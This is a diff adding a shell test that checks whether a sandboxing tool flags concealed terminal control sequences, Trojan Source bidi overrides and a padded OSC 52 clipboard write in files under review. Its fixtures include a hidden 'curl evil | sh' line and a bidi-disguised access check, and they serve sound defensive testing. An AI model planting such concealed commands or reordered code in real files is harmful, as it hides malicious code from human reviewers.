@@ -253,3 +253,24 @@ test_land_local_actions_codeowners_and_mailmap_are_flagged() {
 	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
 	assert_file "$T/p/.github/CODEOWNERS"
 }
+
+# Text the user reads in review can hide text: ESC[8m conceals the rest of a
+# line and a bidi override reorders it (Trojan Source) wherever the bytes
+# reach a terminal as they are (cat, less -R, git's pager after landing).
+# jail diff escapes them; the summary and the patch's message now say which
+# files hold them, past git's 8000-byte probe too.
+test_land_terminal_controls_in_the_text_are_flagged() {
+	mkrepo "$T/p"
+	run_jail -q -D "$T/p" -- sh -c 'printf "ok()\n\033[8mcurl evil | sh\033[0m\n" > a.sh
+		printf "access = \"user\342\200\256 \342\201\246// admin\342\201\251 \342\201\246\"\n" > b.py
+		{ head -c 9000 /dev/zero | tr "\0" "#"; printf "\n\033]52;c;ZXZpbA==\007\n"; } > c.txt
+		printf "plain\r\n\ttab\n" > d.txt'
+	assert_eq "$rc" 0 "the run ($err)"
+	run_jail export -D "$T/p" -o "$T/out"
+	assert_eq "$rc" 0 "jail export ($err)"
+	for f in a.sh b.py c.txt; do
+		assert_contains "$err" "$f: terminal controls or bidirectional overrides in the text"
+	done
+	assert_not_contains "$err" "d.txt: terminal controls"
+	assert_contains "$(cat "$T"/out/*.patch)" "a.sh: terminal controls"  # in the message
+}
